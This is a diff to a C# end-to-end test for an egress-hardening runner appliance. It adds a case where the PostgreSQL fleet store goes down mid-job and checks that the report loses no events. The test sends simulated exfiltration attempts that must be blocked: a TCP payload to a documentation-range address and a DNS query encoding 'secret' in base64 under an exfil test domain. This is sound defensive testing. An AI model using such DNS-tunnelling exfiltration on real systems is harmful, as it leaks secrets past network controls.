@@ -10,7 +10,8 @@ namespace HardenRunner.EndToEnd.Tests;
 /// <summary>
 /// Fleet mode with the real appliance in the lab: <c>start</c> with the store in <c>$HARDEN_RUNNER_STORE</c> (a private
 /// PostgreSQL server, reached through its Unix socket, since the runner namespace has its own loopback), a job's
-/// traffic, <c>stop</c>; the fleet database then renders the same report as the runner's local file.
+/// traffic, <c>stop</c>; the fleet database then renders the same report as the runner's local file — also when the
+/// database was stopped while the job ran and started again before the appliance stopped (no event lost or doubled).
 /// </summary>
 public sealed class FleetStoreTests
 {
@@ -19,8 +20,10 @@ public sealed class FleetStoreTests
     private static Task<LabProcessResult> Cli(TestLab lab, IDictionary<string, string>? env, params string[] args) =>
         lab.RunInRunnerAsync("dotnet", [HardenRunnerBinary.Path, .. args], CommandTimeout, env);
 
-    [SkippableFact]
-    public async Task StartStop_WithPostgresStore_ShipsTheRun_AndTheFleetReportEqualsTheLocalOne()
+    [SkippableTheory]
+    [InlineData(false)]
+    [InlineData(true)]
+    public async Task StartStop_WithPostgresStore_ShipsTheRun_AndTheFleetReportEqualsTheLocalOne(bool databaseDownDuringTheJob)
     {
         Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
         await using var pg = await PostgresServer.StartAsync();
@@ -42,10 +45,20 @@ public sealed class FleetStoreTests
 
         var start = await Cli(lab, env, "start", "--state-dir", state);
         Assert.True(start.ExitCode == 0, start.ToString());
+        if (databaseDownDuringTheJob)
+        {
+            await pg.StopAsync();
+        }
+
         var payload = EnforcementCoreTests.Unique("fleet-");
         Assert.False((await EnforcementCoreTests.SendAsync(lab, "tcp", "198.51.100.20", 9000, payload)).Succeeded);
         var dig = await EnforcementCoreTests.DigAsync(lab, "c2VjcmV0.fleet.exfil.test", "A");
         Assert.Contains("status: NXDOMAIN", dig.StandardOutput, StringComparison.Ordinal);
+        if (databaseDownDuringTheJob)
+        {
+            await pg.StartAsync();
+        }
+
         var stop = await Cli(lab, env, "stop", "--state-dir", state);
         Assert.True(stop.ExitCode == 0, stop.ToString());
         var log = await File.ReadAllTextAsync(Path.Combine(state, "appliance.log"));
